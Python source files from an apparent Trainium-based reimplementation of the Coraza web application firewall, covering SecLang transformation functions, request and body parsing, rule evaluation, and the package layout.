        b = ord(c) & 0x7F
        if even is None:
            out.append(chr(b))
            continue
        ones = bin(b).count("1")
        want_even = even
        parity_bit = 0x80 if (ones % 2 == (0 if want_even else 1)) else 0
        out.append(chr(b | parity_bit))
    return "".join(out)


def t_parityzero7bit(s: str) -> str:
    return _parity(s, None)


def t_parityeven7bit(s: str) -> str:
    return _parity(s, False)


def t_parityodd7bit(s: str) -> str:
    return _parity(s, True)


def t_urlencode(s: str) -> str:
    safe = ("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
            "0123456789-_.~")
    return "".join(c if c in safe else "%%%02x" % ord(c) for c in s)


TRANSFORMS = {
    "none": t_none,
    "lowercase": t_lowercase,
    "uppercase": t_uppercase,
    "urldecode": t_urldecode,
    "urldecodeuni": t_urldecodeuni,
    "urlencode": t_urlencode,
    "htmlentitydecode": t_htmlentitydecode,
    "removenulls": t_removenulls,
    "replacenulls": t_replacenulls,
    "removewhitespace": t_removewhitespace,
    "compresswhitespace": t_compresswhitespace,
    "replacecomments": t_replacecomments,
    "removecomments": t_removecomments,
    "removecommentschar": t_removecommentschar,
    "cmdline": t_cmdline,
    "normalizepath": t_normalizepath,
    "normalizepathwin": t_normalizepathwin,
    # ModSecurity accepts both spellings (CRS itself uses normalisePath)
    "normalisepath": t_normalizepath,
    "normalisepathwin": t_normalizepathwin,
    "trim": t_trim,
    "trimleft": t_trimleft,
    "trimright": t_trimright,
    "length": t_length,
    "base64decode": t_base64decode,
    "base64decodeext": t_base64decodeext,
    "base64encode": t_base64encode,
    "hexdecode": t_hexdecode,
    "hexencode": t_hexencode,
    "jsdecode": t_jsdecode,
    "cssdecode": t_cssdecode,
    "escapeseqdecode": t_escapeseqdecode,
    "utf8tounicode": t_utf8tounicode,
    "sha1": t_sha1,
    "md5": t_md5,
    "sqlhexdecode": t_sqlhexdecode,
    "parityzero7bit": t_parityzero7bit,
    "parityeven7bit": t_parityeven7bit,
    "parityodd7bit": t_parityodd7bit,
}


def apply_chain(value: str, names: list[str]) -> str:
    for name in names:
        value = TRANSFORMS[name](value)
    return value
