"""Transaction model: HTTP data, variable collections, phase evaluation.

Behavioral contract derives from the reference's data-plane observations
(reference: test/framework/traffic.go:109-134 — deny => 403 local reply,
clean traffic reaches backend; test/integration/coreruleset_test.go — audit
events for matched rules) and Coraza/ModSecurity SecLang semantics.
"""

from __future__ import annotations

import json as _json
import re
import time
from dataclasses import dataclass, field
from urllib.parse import parse_qsl

from ..seclang.ast import Action, Marker, Rule, Variable
from .operators import OPERATORS, OpResult
from .transforms import TRANSFORMS


def _b2s(data: bytes | str) -> str:
    if isinstance(data, bytes):
        return data.decode("latin-1")
    return data


@dataclass
class HttpRequest:
    method: str = "GET"
    uri: str = "/"  # path[?query]
    http_version: str = "HTTP/1.1"
    headers: list[tuple[str, str]] = field(default_factory=list)
    body: bytes | str = b""
    remote_addr: str = "127.0.0.1"
    remote_port: int = 0
    server_addr: str = "127.0.0.1"
    server_port: int = 80

    def header(self, name: str) -> str | None:
        for k, v in self.headers:
            if k.lower() == name.lower():
                return v
        return None


@dataclass
class HttpResponse:
    status: int = 200
    headers: list[tuple[str, str]] = field(default_factory=list)
    body: bytes | str = b""


@dataclass
class Interruption:
    """A disruptive-action outcome (Coraza's types.Interruption)."""

    action: str  # deny | drop | redirect | allow
    status: int = 403
    rule_id: int = 0
    data: str = ""  # redirect URL


@dataclass
class MatchedRule:
    rule_id: int
    phase: int
    msg: str = ""
    logdata: str = ""
    tags: list[str] = field(default_factory=list)
    severity: str = ""
    matched_var: str = ""
    matched_var_name: str = ""
    disruptive: str | None = None


_SEVERITIES = {
    "emergency": 0, "alert": 1, "critical": 2, "error": 3, "warning": 4,
    "notice": 5, "info": 6, "debug": 7,
}


class Transaction:
    """One request/response inspection pass over a compiled ruleset."""

    def __init__(self, engine: "object", request: HttpRequest):
        self.engine = engine  # ReferenceWaf
        self.req = request
        self.resp: HttpResponse | None = None
        self.interruption: Interruption | None = None
        self.matched_rules: list[MatchedRule] = []
        self.rule_engine_on = True
        self.detection_only = False
        self.removed_rule_ids: set[int] = set()
        self.body_processor: str | None = None
        self.reqbody_error = 0
        self.reqbody_error_msg = ""
        self.phases_done: set[int] = set()
        self.allow_scope: str | None = None  # "tx" | "request" | "phase"
        self.allowed_by: int = 0
        # device candidate gate: rule_id -> False means the device proved
        # the rule cannot match this transaction (runtime/device_engine.py)
        self.gate_bits: dict[int, bool] | None = None

        # ---- collections -------------------------------------------------
        path, _, query = request.uri.partition("?")
        self.tx: dict[str, str] = {}
        # initcol-activated persistent collections: name -> instance key
        self.active_cols: dict[str, str] = {}
        self.collections: dict[str, list[tuple[str, str]]] = {}
        c = self.collections
        # latin-1 keeps raw bytes intact (the engine's byte contract);
        # utf-8 would fold attacker bytes into U+FFFD and hide them
        c["ARGS_GET"] = [(k.lower(), v) for k, v in
                         parse_qsl(query, keep_blank_values=True,
                                   encoding="latin-1")]
        c["ARGS_POST"] = []
        c["REQUEST_HEADERS"] = [(k.lower(), _b2s(v)) for k, v in request.headers]
        c["REQUEST_COOKIES"] = self._parse_cookies()
        c["FILES"] = []
        c["FILES_SIZES"] = []
        c["MULTIPART_PART_HEADERS"] = []
        self.single: dict[str, str] = {
            "QUERY_STRING": query,
            "REQUEST_URI": request.uri,
            "REQUEST_URI_RAW": request.uri,
            "REQUEST_FILENAME": path,
            "REQUEST_BASENAME": path.rsplit("/", 1)[-1],
            "PATH_INFO": "",
            "REQUEST_METHOD": request.method,
            "REQUEST_PROTOCOL": request.http_version,
            "REQUEST_LINE":
                f"{request.method} {request.uri} {request.http_version}",
            "REQUEST_BODY": "",
            "REQUEST_BODY_LENGTH": "0",
            "REMOTE_ADDR": request.remote_addr,
            "REMOTE_HOST": request.remote_addr,
            "REMOTE_PORT": str(request.remote_port),
            "SERVER_ADDR": request.server_addr,
            "SERVER_NAME": request.header("host") or request.server_addr,
            "SERVER_PORT": str(request.server_port),
            "REQBODY_ERROR": "0",
            "REQBODY_ERROR_MSG": "",
            "REQBODY_PROCESSOR": "",
            "RESPONSE_BODY": "",
            "RESPONSE_STATUS": "",
            "RESPONSE_PROTOCOL": "",
            "RESPONSE_CONTENT_TYPE": "",
            "RESPONSE_CONTENT_LENGTH": "0",
            "MATCHED_VAR": "",
            "MATCHED_VAR_NAME": "",
            "HIGHEST_SEVERITY": "255",
            "UNIQUE_ID": "0",
            "FULL_REQUEST": "",
            "FULL_REQUEST_LENGTH": "0",
            "URLENCODED_ERROR": "0",
            "MULTIPART_STRICT_ERROR": "0",
            "MULTIPART_UNMATCHED_BOUNDARY": "0",
            "DURATION": "0",
            "AUTH_TYPE": "",
        }
        self.matched_vars: list[tuple[str, str]] = []

    # ------------------------------------------------------------------
    def _parse_cookies(self) -> list[tuple[str, str]]:
        raw = self.req.header("cookie") or ""
        out = []
        for part in raw.split(";"):
            part = part.strip()
            if not part:
                continue
            k, _, v = part.partition("=")
            out.append((k.strip().lower(), v.strip()))
        return out

    # ------------------------------------------------------------------
    def process_request_body(self) -> None:
        cfg = self.engine.config
        body = _b2s(self.req.body)
        if not cfg.request_body_access:
            return
        if self.allow_scope in ("tx", "request"):
            return  # allow bypasses body limits and parsing
        limit = cfg.request_body_limit
        if len(body) > limit:
            if cfg.request_body_limit_action == "Reject":
                self.interruption = Interruption("deny", 413, 0, "body limit")
                return
            body = body[:limit]
        self.single["REQUEST_BODY"] = body
        self.single["REQUEST_BODY_LENGTH"] = str(len(body))
        ctype = (self.req.header("content-type") or "").lower()
        proc = self.body_processor
        if proc is None:
            if "application/x-www-form-urlencoded" in ctype:
                proc = "URLENCODED"
            elif "multipart/form-data" in ctype:
                proc = "MULTIPART"
            elif "json" in ctype:
                proc = "JSON"
            elif "xml" in ctype:
                proc = "XML"
        self.single["REQBODY_PROCESSOR"] = proc or ""
        if not body:
            return
        try:
            if proc == "URLENCODED":
                self.collections["ARGS_POST"] = [
                    (k.lower(), v)
                    for k, v in parse_qsl(body, keep_blank_values=True,
                                          encoding="latin-1")]
            elif proc == "JSON":
                self._parse_json(body)
            elif proc == "MULTIPART":
                # boundary token is case-sensitive: use the raw header
                self._parse_multipart(body, self.req.header("content-type") or "")
            elif proc == "XML":
                self._parse_xml(body)
        except Exception as exc:  # malformed body => REQBODY_ERROR
            self.single["REQBODY_ERROR"] = "1"
            self.single["REQBODY_ERROR_MSG"] = str(exc)

    def _parse_json(self, body: str) -> None:
        data = _json.loads(body)
        flat: list[tuple[str, str]] = []

        def walk(prefix: str, val) -> None:
            if isinstance(val, dict):
                for k, v in val.items():
                    walk(f"{prefix}.{k}" if prefix else str(k), v)
            elif isinstance(val, list):
                for idx, v in enumerate(val):
                    walk(f"{prefix}.{idx}" if prefix else str(idx), v)
            elif isinstance(val, bool):
                flat.append((prefix, "true" if val else "false"))
            elif val is None:
                flat.append((prefix, ""))
            else:
                flat.append((prefix, str(val)))

        walk("json", data)
        self.collections["ARGS_POST"] = [(k.lower(), v) for k, v in flat]

    def _parse_xml(self, body: str) -> None:
        """XML body processor: element text and attribute values become
        the XML:/* and XML://@* target sets (ModSecurity's CRS usage; a
        full XPath engine is not needed for the corpus)."""
        import xml.parsers.expat as _expat
        from xml.etree.ElementTree import TreeBuilder

        # DTDs are rejected: internal entity definitions enable
        # billion-laughs memory amplification, and neither Coraza's nor
        # ModSecurity's processor expands entities. Rejection happens at
        # the tokenizer level (expat doctype/entity handlers), not by
        # text pre-scan — a regex scan can be spoofed by overlapping
        # fake comment/CDATA spans, and a literal "<!DOCTYPE" inside a
        # real comment/CDATA must NOT trip it. Raising routes to the
        # REQBODY_ERROR path below (CRS 920xxx then handles it).
        def _reject(*_a):
            raise ValueError("XML DTD/entity declarations not allowed")

        tb = TreeBuilder()
        p = _expat.ParserCreate()
        p.StartDoctypeDeclHandler = _reject
        p.EntityDeclHandler = _reject
        p.StartElementHandler = tb.start
        p.EndElementHandler = tb.end
        p.CharacterDataHandler = tb.data
        try:
            p.Parse(body, True)
        except _expat.ExpatError as exc:
            raise ValueError(str(exc))  # malformed -> REQBODY_ERROR
        root = tb.close()
        texts: list[tuple[str, str]] = []
        attrs: list[tuple[str, str]] = []
        for el in root.iter():
            if el.text and el.text.strip():
                texts.append(("/*", el.text.strip()))
            if el.tail and el.tail.strip():
                texts.append(("/*", el.tail.strip()))
            for av in el.attrib.values():
                attrs.append(("//@*", av))
        self.collections["XML"] = texts + attrs

    def _parse_multipart(self, body: str, ctype: str) -> None:
        m = re.search(r'boundary="?([^";]+)"?', ctype)
        if not m:
            raise ValueError("multipart body without boundary")
        boundary = "--" + m.group(1)
        args: list[tuple[str, str]] = []
        for part in body.split(boundary)[1:]:
            if part.strip() in ("", "--"):
                continue
            part = part.lstrip("\r\n")
            head, _, content = part.partition("\r\n\r\n")
            if not _:
                head, _, content = part.partition("\n\n")
            content = content.rstrip("\r\n")
            disp = ""
            part_headers = []
            for line in head.splitlines():
                k, _, v = line.partition(":")
                part_headers.append((k.strip().lower(), v.strip()))
                if k.strip().lower() == "content-disposition":
                    disp = v
            name_m = re.search(r'name="([^"]*)"', disp)
            file_m = re.search(r'filename="([^"]*)"', disp)
            pname = name_m.group(1) if name_m else ""
            if file_m:
                self.collections["FILES"].append((pname.lower(), file_m.group(1)))
                self.collections["FILES_SIZES"].append(
                    (pname.lower(), str(len(content))))
            else:
                args.append((pname.lower(), content))
            for hk, hv in part_headers:
                self.collections["MULTIPART_PART_HEADERS"].append(
                    (pname.lower(), f"{hk}: {hv}"))
        self.collections["ARGS_POST"] = args

    def process_response(self, resp: HttpResponse) -> None:
        """Populate response HEADER variables (phase-3 visibility).

        Response body processing happens between phases 3 and 4 in the
        reference semantics, so RESPONSE_BODY is deliberately NOT set here —
        call process_response_body() after phase 3 has been evaluated."""
        self.resp = resp
        self.single["RESPONSE_STATUS"] = str(resp.status)
        self.collections["RESPONSE_HEADERS"] = [
            (k.lower(), _b2s(v)) for k, v in resp.headers]
        ctype = ""
        for k, v in resp.headers:
            if k.lower() == "content-type":
                ctype = _b2s(v)
        self.single["RESPONSE_CONTENT_TYPE"] = ctype

    def process_response_body(self) -> None:
        """Populate RESPONSE_BODY variables (phase-4 visibility)."""
        resp = self.resp
        if resp is None:
            return
        if self.engine.config.response_body_access:
            body = _b2s(resp.body)[: self.engine.config.response_body_limit]
            self.single["RESPONSE_BODY"] = body
            self.single["RESPONSE_CONTENT_LENGTH"] = str(len(body))

    # ------------------------------------------------------------------
    # Variable expansion
    # ------------------------------------------------------------------
    def _collection_pairs(self, name: str) -> list[tuple[str, str]]:
        c = self.collections
        if name == "ARGS":
            return c["ARGS_GET"] + c["ARGS_POST"]
        if name == "ARGS_NAMES":
            return [(k, k) for k, _ in c["ARGS_GET"] + c["ARGS_POST"]]
        if name == "ARGS_GET_NAMES":
            return [(k, k) for k, _ in c["ARGS_GET"]]
        if name == "ARGS_POST_NAMES":
            return [(k, k) for k, _ in c["ARGS_POST"]]
        if name == "REQUEST_HEADERS_NAMES":
            return [(k, k) for k, _ in c["REQUEST_HEADERS"]]
        if name == "REQUEST_COOKIES_NAMES":
            return [(k, k) for k, _ in c["REQUEST_COOKIES"]]
        if name == "FILES_NAMES":
            return [(k, k) for k, _ in c["FILES"]]
        if name == "TX":
            return [(k, v) for k, v in self.tx.items()]
        if name in self._PERSISTENT:
            store = self._persist_store(name)
            return list(store.items()) if store else []
        if name == "MATCHED_VARS":
            return [(n, v) for n, v in self.matched_vars]
        if name == "MATCHED_VARS_NAMES":
            return [(n, n) for n, _ in self.matched_vars]
        if name == "ARGS_COMBINED_SIZE":
            total = sum(len(k) + len(v)
                        for k, v in c["ARGS_GET"] + c["ARGS_POST"])
            return [("", str(total))]
        if name == "FILES_COMBINED_SIZE":
            total = sum(int(v) for _, v in c["FILES_SIZES"])
            return [("", str(total))]
        return c.get(name, [])

    _SINGLE_ALIASES = {"GEO", "RULE", "ENV", "TIME", "TIME_DAY", "TIME_EPOCH",
                       "TIME_HOUR", "TIME_MIN", "TIME_MON", "TIME_SEC",
                       "TIME_WDAY", "TIME_YEAR"}
    # persistent collections: engine-lifetime storage activated per-tx by
    # initcol (ModSecurity/Coraza memory-backend semantics); used by CRS
    # DoS / IP-reputation rules (setvar:ip.dos_counter=+1 etc.)
    _PERSISTENT = {"IP", "GLOBAL", "SESSION", "USER", "RESOURCE"}

    _COLLECTIONS = {
        "ARGS", "ARGS_GET", "ARGS_POST", "ARGS_NAMES", "ARGS_GET_NAMES",
        "ARGS_POST_NAMES", "REQUEST_HEADERS", "REQUEST_HEADERS_NAMES",
        "REQUEST_COOKIES", "REQUEST_COOKIES_NAMES", "FILES", "FILES_NAMES",
        "FILES_SIZES", "MULTIPART_PART_HEADERS", "RESPONSE_HEADERS", "TX",
        "MATCHED_VARS", "MATCHED_VARS_NAMES", "ARGS_COMBINED_SIZE",
        "FILES_COMBINED_SIZE", "XML", "JSON",
        "IP", "GLOBAL", "SESSION", "USER", "RESOURCE",
    }

    def _persist_store(self, coll: str) -> dict[str, str] | None:
        """The live {var: value} dict for an initcol-activated persistent
        collection, with expired vars pruned — or None if not active."""
        inst = self.active_cols.get(coll)
        if inst is None:
            return None
        key = (coll, inst)
        store = self.engine.persistent.setdefault(key, {})
        expiry = self.engine.persistent_expiry.get(key)
        if expiry:
            now = time.monotonic()
            for k in [k for k, t in expiry.items() if t <= now]:
                expiry.pop(k, None)
                store.pop(k, None)
        return store

    def expand_targets(self, variables: list[Variable]
                       ) -> list[tuple[str, str]]:
        """Expand a rule's target list into (name, value) pairs, applying
        selectors, exclusions and counts."""
        excludes: list[Variable] = [v for v in variables if v.exclude]

        def excluded(name: str) -> bool:
            for ex in excludes:
                coll_prefix = f"{ex.collection}:"
                if ex.selector is None:
                    if name == ex.collection or name.startswith(coll_prefix):
                        return True
                elif ex.selector_is_regex:
                    if name.startswith(coll_prefix) and re.search(
                            ex.selector, name[len(coll_prefix):],
                            re.IGNORECASE):
                        return True
                else:
                    if name.lower() == \
                            f"{ex.collection}:{ex.selector}".lower():
                        return True
            return False

        include: list[tuple[str, str]] = []
        for var in variables:
            if var.exclude:
                continue
            coll = var.collection
            if coll in self._COLLECTIONS:
                pairs = self._collection_pairs(coll)
                if var.selector is not None:
                    if var.selector_is_regex:
                        rx = re.compile(var.selector, re.IGNORECASE)
                        pairs = [(k, v) for k, v in pairs if rx.search(k)]
                    elif coll == "XML":
                        sel = var.selector.strip()
                        if sel == "/*":
                            pairs = [(k, v) for k, v in pairs if k == "/*"]
                        elif sel == "//@*":
                            pairs = [(k, v) for k, v in pairs
                                     if k == "//@*"]
                        # other xpaths: keep every parsed node (safe
                        # over-approximation; CRS only uses the two above)
                    else:
                        pairs = [(k, v) for k, v in pairs
                                 if k == var.selector.lower()]
                named = [(f"{coll}:{k}" if k else coll, v) for k, v in pairs]
                # exclusions remove members from the target set BEFORE
                # counting (ModSecurity semantics)
                named = [(n, v) for n, v in named if not excluded(n)]
                if var.count:
                    include.append((f"&{coll}", str(len(named))))
                else:
                    include.extend(named)
            else:
                val = self.single.get(coll, "")
                if var.count:
                    include.append((f"&{coll}", "1" if val else "0"))
                elif not excluded(coll):
                    include.append((coll, val))
        return include

    # ------------------------------------------------------------------
    # Macro expansion
    # ------------------------------------------------------------------
    _MACRO_RX = re.compile(r"%\{([^}]+)\}")

    def expand_macros(self, text: str) -> str:
        def repl(m: "re.Match[str]") -> str:
            expr = m.group(1)
            return self.lookup_macro(expr)

        return self._MACRO_RX.sub(repl, text)

    def lookup_macro(self, expr: str) -> str:
        expr = expr.strip()
        if "." in expr:
            coll, _, key = expr.partition(".")
            coll_u = coll.upper()
            key_l = key.lower()
            if coll_u == "TX":
                return self.tx.get(key_l, "")
            if coll_u == "RULE":
                return self._current_rule_meta.get(key_l, "")
            for k, v in self._collection_pairs(coll_u):
                if k == key_l:
                    return v
            return ""
        name = expr.upper()
        if name in self.single:
            return self.single[name]
        return ""

    _current_rule_meta: dict[str, str] = {}

    # ------------------------------------------------------------------
    # Rule evaluation
    # ------------------------------------------------------------------
    def eval_phase(self, phase: int) -> Interruption | None:
        if phase in self.phases_done:
            return self.interruption
        self.phases_done.add(phase)
        if self.interruption is not None:
            return self.interruption
        if self.allow_scope == "tx" and phase != 5:
            return None
        if self.allow_scope == "request" and phase <= 2:
            return None
        if not self.engine.config.rule_engine_on or not self.rule_engine_on:
            return None
        # per-phase item index (built once per WAF): at CRS scale (~900
        # rules) walking the full item list 5x per transaction dominates
        # clean-traffic host time
        items = self.engine.phase_index(phase)
        skip_until: str | None = None
        skip_count = 0
        for item in items:
            if self.interruption is not None:
                break
            if isinstance(item, Marker):
                if skip_until is not None and item.label == skip_until:
                    skip_until = None
                continue
            if not isinstance(item, Rule):
                continue
            if item.phase != phase:
                continue
            if skip_until is not None:
                continue
            if skip_count > 0:
                skip_count -= 1
                continue
            if item.id in self.removed_rule_ids:
                continue
            outcome = self._eval_rule(item)
            if outcome is not None:
                kind, arg = outcome
                if kind == "skipAfter":
                    skip_until = arg
                elif kind == "skip":
                    try:
                        skip_count = max(0, int(arg))
                    except ValueError:
                        skip_count = 0
        # allow is not a terminal interruption: record its scope and clear
        # so later phases proceed per ModSecurity semantics
        if self.interruption is not None and \
                self.interruption.action == "allow":
            scope = self.interruption.data or "tx"
            self.allowed_by = self.interruption.rule_id
            self.allow_scope = None if scope == "phase" else scope
            self.interruption = None
        return self.interruption

    def eval_phase_5_logging(self) -> None:
        """Phase 5 (logging) rules run last and can never disrupt."""
        saved = self.interruption
        self.interruption = None
        try:
            self.eval_phase(5)
        finally:
            self.interruption = saved

    def _eval_rule(self, rule: Rule) -> tuple[str, str] | None:
        """Evaluate one rule (and its chain). Returns a control-flow action
        ('skipAfter', label) / ('skip', n) if requested by a matched rule."""
        if self.gate_bits is not None and \
                self.gate_bits.get(rule.id) is False:
            return None  # device proved no-match; skip entirely
        matched_pairs = self._match_rule_targets(rule)
        if not matched_pairs:
            return None
        # record matches
        last_name, last_value, last_result = matched_pairs[-1]
        self.single["MATCHED_VAR"] = last_result.matched_data or last_value
        self.single["MATCHED_VAR_NAME"] = last_name
        self.matched_vars = [(n, r.matched_data or v)
                             for n, v, r in matched_pairs]
        self._current_rule_meta = {
            "id": str(rule.id),
            "msg": rule.action("msg").argument if rule.action("msg") else "",
            "severity": (rule.action("severity").argument or ""
                         if rule.action("severity") else ""),
        }
        # capture: TX.0..9 from the last matched result
        if rule.action("capture") and last_result.captures:
            for i, cap in enumerate(last_result.captures[:10]):
                self.tx[str(i)] = cap
        # non-disruptive actions of this link
        control: tuple[str, str] | None = None
        for act in rule.actions:
            c = self._run_action(rule, act)
            if c is not None:
                control = c
        # chain: all links must match before head's disruptive action fires
        if rule.chained:
            for link in rule.chain_rules:
                link_pairs = self._match_rule_targets(link)
                if not link_pairs:
                    return None
                ln, lv, lr = link_pairs[-1]
                self.single["MATCHED_VAR"] = lr.matched_data or lv
                self.single["MATCHED_VAR_NAME"] = ln
                if link.action("capture") and lr.captures:
                    for i, cap in enumerate(lr.captures[:10]):
                        self.tx[str(i)] = cap
                for act in link.actions:
                    c = self._run_action(link, act)
                    if c is not None:
                        control = c
        self._record_match(rule)
        self._apply_disruptive(rule)
        return control

    def _match_rule_targets(
            self, rule: Rule) -> list[tuple[str, str, OpResult]]:
        op = rule.operator
        fn = OPERATORS.get(op.name)
        if fn is None:
            # Operators not implemented (e.g. @rbl, @inspectFile): no match,
            # mirroring a data plane without those facilities.
            return []
        arg = self.expand_macros(op.argument)
        if rule.is_sec_action:
            res = fn("", arg)
            return [("", "", res)] if bool(res) != op.negated else []
        targets = self.expand_targets(rule.variables)
        if rule.has_transforms:
            tnames = [t.name for t in rule.transformations]
        else:
            # rules without any t: inherit SecDefaultAction transforms
            default = self.engine.config.default_actions.get(rule.phase)
            tnames = list(default.transformations) if default else []
        multi = rule.action("multimatch") is not None
        matched: list[tuple[str, str, OpResult]] = []
        for name, value in targets:
            if multi:
                val = value
                results = []
                res0 = fn(val, arg)
                results.append((val, res0))
                for tn in tnames:
                    val = TRANSFORMS[tn](val)
                    results.append((val, fn(val, arg)))
                for tv, res in results:
                    if bool(res) != op.negated:
                        matched.append((name, tv, res if res else
                                        OpResult(True, matched_data=tv)))
                        break
            else:
                val = value
                for tn in tnames:
                    val = TRANSFORMS[tn](val)
                res = fn(val, arg)
                if bool(res) != op.negated:
                    if not res:
                        res = OpResult(True, matched_data=val)
                    matched.append((name, val, res))
        return matched

    def _run_action(self, rule: Rule, act: Action) -> tuple[str, str] | None:
        name = act.name
        if name == "setvar":
            self._do_setvar(act.argument or "")
        elif name == "initcol":
            # initcol:ip=%{REMOTE_ADDR} — activate a persistent collection
            # instance for this transaction (engine-lifetime storage)
            arg = self.expand_macros(act.argument or "")
            coll, _, inst = arg.partition("=")
            coll = coll.strip().upper()
            if coll in self._PERSISTENT and inst:
                self.active_cols[coll] = inst.strip()
                self.engine.persistent.setdefault((coll, inst.strip()), {})
        elif name == "expirevar":
            # expirevar:ip.var=seconds — time-bound a persistent var
            arg = self.expand_macros(act.argument or "")
            target, _, ttl = arg.partition("=")
            coll, _, key = target.partition(".")
            coll = coll.strip().upper()
            inst = self.active_cols.get(coll)
            # an empty or non-numeric TTL is ignored (a 0-second expiry
            # would silently delete the variable on next access)
            ttl = ttl.strip()
            if inst and key and ttl:
                try:
                    ttl_s = float(ttl)
                except ValueError:
                    ttl_s = None
                if ttl_s is not None:
                    exp = self.engine.persistent_expiry.setdefault(
                        (coll, inst), {})
                    exp[key.strip().lower()] = time.monotonic() + ttl_s
        elif name == "ctl":
            self._do_ctl(act.argument or "")
        elif name == "skipafter":
            return ("skipAfter", act.argument or "")
        elif name == "skip":
            return ("skip", act.argument or "0")
        elif name == "severity":
            sev = (act.argument or "").strip("'").lower()
            level = _SEVERITIES.get(sev)
            if level is None:
                try:
                    level = int(sev)
                except ValueError:
                    level = None
            if level is not None:
                cur = int(self.single.get("HIGHEST_SEVERITY", "255"))
                if level < cur:
                    self.single["HIGHEST_SEVERITY"] = str(level)
        return None

    def _setvar_target(self, coll: str) -> dict[str, str] | None:
        """The mutable store for a setvar collection: TX or an
        initcol-activated persistent collection."""
        coll_u = coll.upper()
        if coll_u == "TX":
            return self.tx
        if coll_u in self._PERSISTENT:
            return self._persist_store(coll_u)
        return None

    def _do_setvar(self, spec: str) -> None:
        spec = self.expand_macros(spec)
        if spec.startswith("!"):
            target = spec[1:]
            coll, _, key = target.partition(".")
            store = self._setvar_target(coll)
            if store is not None:
                store.pop(key.lower(), None)
            return
        target, _, value = spec.partition("=")
        coll, _, key = target.partition(".")
        key = key.lower()
        store = self._setvar_target(coll)
        if store is None:
            return  # inactive persistent collection (no initcol) — no-op
        if value.startswith("+"):
            cur = _to_float(store.get(key, "0"))
            store[key] = _fmt_num(cur + _to_float(value[1:]))
        elif value.startswith("-"):
            cur = _to_float(store.get(key, "0"))
            store[key] = _fmt_num(cur - _to_float(value[1:]))
        else:
            store[key] = value

    def _do_ctl(self, spec: str) -> None:
        key, _, value = spec.partition("=")
        key = key.strip().lower()
        if key == "requestbodyprocessor":
            self.body_processor = value.strip().upper()
        elif key == "ruleengine":
            v = value.strip().lower()
            if v == "off":
                self.rule_engine_on = False
            elif v == "detectiononly":
                self.detection_only = True
        elif key == "ruleremovebyid":
            for part in value.split():
                part = part.strip()
                if "-" in part:
                    lo, hi = part.split("-", 1)
                    try:
                        self.removed_rule_ids.update(
                            range(int(lo), int(hi) + 1))
                    except ValueError:
                        pass
                else:
                    try:
                        self.removed_rule_ids.add(int(part))
                    except ValueError:
                        pass
        elif key == "forcerequestbodyvariable":
            pass  # body kept verbatim already
        elif key == "auditengine":
            pass

    def _record_match(self, rule: Rule) -> None:
        nolog = rule.action("nolog") is not None
        msg_a = rule.action("msg")
        logdata_a = rule.action("logdata")
        mr = MatchedRule(
            rule_id=rule.id,
            phase=rule.phase,
            msg=self.expand_macros(msg_a.argument) if msg_a and msg_a.argument
            else "",
            logdata=self.expand_macros(logdata_a.argument)
            if logdata_a and logdata_a.argument else "",
            tags=[a.argument or "" for a in rule.actions_named("tag")],
            severity=(rule.action("severity").argument or ""
                      if rule.action("severity") else ""),
            matched_var=self.single["MATCHED_VAR"],
            matched_var_name=self.single["MATCHED_VAR_NAME"],
            disruptive=rule.disruptive,
        )
        if not nolog or mr.disruptive not in (None, "pass"):
            self.matched_rules.append(mr)

    def _apply_disruptive(self, rule: Rule) -> None:
        disruptive = rule.disruptive
        default = None
        if disruptive == "block":
            # block resolves to the SecDefaultAction disruptive for the phase
            default = self.engine.config.default_actions.get(rule.phase)
            disruptive = default.disruptive if default else None
            if disruptive == "pass":
                disruptive = None
        if disruptive in (None, "pass"):
            return
        if self.detection_only or \
                self.engine.config.rule_engine_mode == "DetectionOnly":
            return
        if rule.action("status") is not None:
            status = rule.status
        elif default is not None:
            status = default.status
        else:
            status = rule.status
        if disruptive == "deny":
            self.interruption = Interruption("deny", status, rule.id)
        elif disruptive == "drop":
            self.interruption = Interruption("drop", status, rule.id)
        elif disruptive == "redirect":
            act = rule.action("redirect")
            if act is not None and act.argument:
                url = act.argument
            elif default is not None and default.redirect_url:
                url = default.redirect_url
            else:
                url = "/"
            # an explicit 3xx status action overrides the default 302
            redirect_status = status if rule.action("status") is not None \
                and 300 <= status < 400 else 302
            self.interruption = Interruption(
                "redirect", redirect_status, rule.id,
                data=self.expand_macros(url))
        elif disruptive == "allow":
            act = rule.action("allow")
            scope = (act.argument or "tx").lower() if act else "tx"
            self.interruption = Interruption("allow", 0, rule.id, data=scope)


def _to_float(s: str) -> float:
    try:
        return float(s)
    except ValueError:
        m = re.match(r"\s*(-?\d+(\.\d+)?)", s)
        return float(m.group(1)) if m else 0.0


def _fmt_num(x: float) -> str:
    if x == int(x):
        return str(int(x))
    return str(x)
