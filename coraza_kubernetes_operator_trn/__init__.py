"""coraza_kubernetes_operator_trn — a Trainium-native WAF framework.

A ground-up rebuild of the capabilities of the Coraza Kubernetes Operator
(reference: shaneutt/coraza-kubernetes-operator) with the request-inspection
data plane re-designed for AWS Trainium:

- ``seclang``   — SecLang lexer/parser/AST (the rule language front-end).
- ``compiler``  — SecLang IR -> byte-class DFA / Aho-Corasick transition
                  tables, literal-prefilter extraction, content-addressed
                  compiled artifacts.
- ``engine``    — exact CPU reference engine (differential oracle, host
                  fallback path, and the single-core baseline).
- ``ops``       — jax device kernels: vectorized byte-stream transformations
                  and batched automaton stepping (gather and one-hot matmul
                  formulations).
- ``models``    — the flagship jittable WAF inspection model.
- ``parallel``  — jax.sharding mesh strategies: data-parallel batches,
                  rule-sharded automata with collective verdict reduction,
                  and sequence-parallel (enumerative scan) long-body
                  inspection.
- ``runtime``   — host orchestration: packing, micro-batching, hybrid
                  device/host verdict computation, health + fallback.
- ``rulesets``  — versioned compiled-artifact cache + HTTP distribution
                  server (same /rules/{ns}/{name} + /latest protocol as the
                  reference's internal/rulesets/cache).
- ``api``       — the unchanged Engine/RuleSet CRD surface
                  (waf.k8s.coraza.io/v1alpha1) as Python types + generated
                  CRD YAML.
- ``controller``— reconcilers: RuleSet (compile + cache) and Engine
                  (deploy driver: trainium | wasm).
- ``extproc``   — the micro-batching inspection sidecar that replaces the
                  reference's external coraza-proxy-wasm data plane.
"""

__version__ = "0.1.0"

GROUP = "waf.k8s.coraza.io"
VERSION = "v1alpha1"
FIELD_MANAGER = "coraza-kubernetes-operator-trn"
