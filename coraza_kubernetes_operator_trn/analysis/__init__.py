"""waf-lint: admission-time static analysis of SecLang rulesets.

Public surface:

- :func:`analyze_ruleset` / :func:`analyze_compiled` — run all checks,
  return an :class:`AnalysisReport` of structured diagnostics.
